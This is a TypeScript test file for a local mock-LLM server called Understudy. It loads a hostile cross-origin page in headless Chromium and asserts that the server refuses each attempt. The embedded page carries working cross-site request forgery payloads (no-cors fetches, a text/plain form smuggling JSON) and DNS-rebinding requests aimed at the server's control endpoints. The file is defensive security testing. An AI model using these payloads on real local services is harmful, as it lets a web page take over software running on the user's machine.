// Issue 13 §2 in a real browser: a page on another origin, loaded in headless Chromium, tries
// every way a page can reach Understudy without a control token — simple no-cors requests,
// a preflighted JSON request, and DNS rebinding (the page's own host name now leads to the server,
// here through a forwarding server that keeps the browser's Host header, as a rebound name would).
// None may change a session. With the page's origin listed in --cors, the same page can script
// the server: that run shows the harness would see a change.

import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { existsSync, mkdtempSync, rmSync } from 'node:fs';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import OpenAI from 'openai';
import { UnderstudyServer } from '../src/server/understudy-server.js';

const CHROMIUM = ['/usr/bin/chromium', '/usr/bin/chromium-browser'].find((path) => existsSync(path));
// CI installs Debian's chromium (.ci/run); elsewhere the test says why it did not run.
const skip = CHROMIUM ? false : process.env.CI ? false : 'Debian chromium is not installed (apt-get install chromium)';

const SCRIPT = JSON.stringify({
  scenarios: [{ name: 'evil', exhausted: 'repeat_last', steps: [{ reply: { text: 'the page answers' } }] }],
});

/** The page: every attempt's outcome is posted back to its own origin. */
function attackPage(understudy: string): string {
  return `<!doctype html><meta charset="utf-8"><title>attack</title><script>
const U = ${JSON.stringify(understudy)};
const SCRIPT = ${JSON.stringify(SCRIPT)};
const chat = JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content: 'who answers?' }] });
const attempts = {
  noCorsTextScripts: () => fetch(U + '/_understudy/sessions/default/scripts', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'text/plain' }, body: SCRIPT }),
  noCorsJsonScripts: () => fetch(U + '/_understudy/sessions/default/scripts', { method: 'POST', mode: 'no-cors', headers: { 'content-type': 'application/json' }, body: SCRIPT }),
  noCorsCreateSession: () => fetch(U + '/_understudy/sessions', { method: 'POST', mode: 'no-cors', body: '{"id":"evil"}' }),
  noCorsReset: () => fetch(U + '/_understudy/sessions/default/reset', { method: 'POST', mode: 'no-cors' }),
  noCorsChat: () => fetch(U + '/v1/chat/completions', { method: 'POST', mode: 'no-cors', body: chat }),
  corsJsonScripts: () => fetch(U + '/_understudy/sessions/default/scripts', { method: 'PUT', headers: { 'content-type': 'application/json' }, body: SCRIPT }).then((r) => r.status),
  form: () => { const f = document.createElement('iframe'); f.name = 'sink'; document.body.append(f);
    const form = Object.assign(document.createElement('form'), { method: 'POST', action: U + '/_understudy/sessions', target: 'sink', enctype: 'text/plain' });
    form.innerHTML = '<input name="{&quot;id&quot;:&quot;formed&quot;,&quot;x&quot;:&quot;" value="&quot;}">'; document.body.append(form); form.submit();
    return new Promise((r) => f.onload = () => r('submitted')); },
  rebindList: () => fetch('/_understudy/sessions').then(async (r) => r.status + ' ' + (await r.text())),
  rebindScripts: () => fetch('/_understudy/sessions/default/scripts', { method: 'POST', headers: { 'content-type': 'application/json' }, body: SCRIPT }).then(async (r) => r.status + ' ' + (await r.text())),
  rebindChat: () => fetch('/v1/chat/completions', { method: 'POST', headers: { 'content-type': 'application/json' }, body: chat }).then(async (r) => r.status + ' ' + (await r.text())),
};
(async () => {
  const results = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try { const value = await attempt(); results[name] = typeof value === 'object' ? 'sent (' + value.type + ')' : String(value); }
    catch (e) { results[name] = 'failed: ' + e.message; }
  }
  await fetch('/report', { method: 'POST', body: JSON.stringify(results) });
})();
</script>`;
}

interface Run {
  results: Record<string, string>;
  /** Requests that reached Understudy from the page (they carry its Origin, or name its host). */
  arrived: string[];
  answer: string | null;
  sessions: string[];
}

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

async function runPage(corsOrigins: (pageOrigin: string) => string[]): Promise<Run> {
  // The attacker's server: the page, its report, and everything else forwarded to Understudy with
  // the browser's own headers (a rebound host name reaches the server exactly so).
  let understudyPort = 0;
  let report: ((results: Record<string, string>) => void) | undefined;
  const reported = new Promise<Record<string, string>>((resolve) => (report = resolve));
  const evil = createServer((req, res) => {
    if (req.url === '/attack.html') {
      res.writeHead(200, { 'content-type': 'text/html' }).end(attackPage(`http://127.0.0.1:${understudyPort}`));
      return;
    }
    if (req.url === '/report') {
      let text = '';
      req.on('data', (chunk: Buffer) => (text += chunk.toString()));
      req.on('end', () => {
        res.writeHead(204).end();
        report?.(JSON.parse(text) as Record<string, string>);
      });
      return;
    }
    const upstream = request(
      { host: '127.0.0.1', port: understudyPort, method: req.method, path: req.url, headers: req.headers },
      (answer) => {
        res.writeHead(answer.statusCode ?? 502, answer.headers);
        answer.pipe(res);
      },
    );
    upstream.on('error', () => res.writeHead(502).end());
    req.pipe(upstream);
  });
  const evilPort = await listen(evil);
  const pageOrigin = `http://evil.test:${evilPort}`;
  const understudy = new UnderstudyServer({ defaultSession: { fallback: 'strict' }, corsOrigins: corsOrigins(pageOrigin) });
  understudy.registry.defaultSession.load({
    scenarios: [{ name: 'original', exhausted: 'repeat_last', steps: [{ reply: { text: 'the test script answers' } }] }],
  });
  const arrived: string[] = [];
  understudy.http.on('request', (req) => {
    if (req.headers.origin === pageOrigin || req.headers.host?.startsWith('evil.test')) arrived.push(`${req.method} ${req.url}`);
  });
  understudyPort = (await understudy.listen()).port;
  const profile = mkdtempSync(join(tmpdir(), 'understudy-chromium-'));
  let browser: ChildProcess | undefined;
  try {
    browser = spawn(
      CHROMIUM!,
      [
        '--headless=new',
        '--no-sandbox',
        '--disable-gpu',
        '--no-first-run',
        '--disable-extensions',
        '--disable-background-networking',
        `--user-data-dir=${profile}`,
        '--host-resolver-rules=MAP evil.test 127.0.0.1',
        `${pageOrigin}/attack.html`,
      ],
      // Its own process group, so that the renderer and helper processes end with it.
      { stdio: 'ignore', detached: true },
    );
    const results = await Promise.race([
      reported,
      new Promise<never>((_, reject) => setTimeout(() => reject(new Error('the page did not report within 30 s')), 30_000)),
    ]);
    const openai = new OpenAI({ baseURL: understudy.providerUrl('openai'), apiKey: 'k', maxRetries: 0, timeout: 5000 });
    const completion = await openai.chat.completions.create({ model: 'gpt-4o', messages: [{ role: 'user', content: 'who answers?' }] });
    return {
      results,
      arrived,
      answer: completion.choices[0].message.content,
      sessions: understudy.registry.list().map((s) => s.id),
    };
  } finally {
    if (browser?.pid !== undefined && browser.exitCode === null) {
      const exited = new Promise((resolve) => browser!.once('exit', resolve));
      process.kill(-browser.pid, 'SIGKILL');
      await exited;
    }
    await understudy.close();
    evil.closeAllConnections();
    await new Promise((resolve) => evil.close(resolve));
    rmSync(profile, { recursive: true, force: true, maxRetries: 10, retryDelay: 100 });
  }
}

test(
  'a page on another origin cannot change a session: no-cors, text/plain, forms, preflighted JSON, DNS rebinding',
  { skip, timeout: 60_000 },
  async () => {
    const run = await runPage(() => []);
    assert.equal(
      run.answer,
      'the test script answers',
      `the session answers as the test scripted it; page saw ${JSON.stringify(run.results)}`,
    );
    assert.deepEqual(run.sessions, ['default'], 'the page created no session');
    // The attempts did reach the server and were refused there, not merely blocked by the browser.
    for (const path of [
      '/_understudy/sessions/default/scripts',
      '/_understudy/sessions',
      '/_understudy/sessions/default/reset',
      '/v1/chat/completions',
    ]) {
      assert.ok(
        run.arrived.some((line) => line.endsWith(` ${path}`)),
        `no request to ${path} arrived: ${run.arrived.join(', ')}`,
      );
    }
    assert.match(run.results.corsJsonScripts, /^failed/, 'the preflight was not granted');
    assert.match(run.results.rebindList, /^403 .*host_not_allowed/);
    assert.doesNotMatch(run.results.rebindList, /apiKey/);
    assert.match(run.results.rebindScripts, /^403 /);
    assert.match(run.results.rebindChat, /^403 .*origin_not_allowed/);
  },
);

test(
  'the same page, its origin listed with --cors, can script the server (the harness sees a change)',
  { skip, timeout: 60_000 },
  async () => {
    const run = await runPage((origin) => [origin]);
    assert.equal(run.results.corsJsonScripts, '200', JSON.stringify(run.results));
    assert.equal(run.answer, 'the page answers');
  },
);
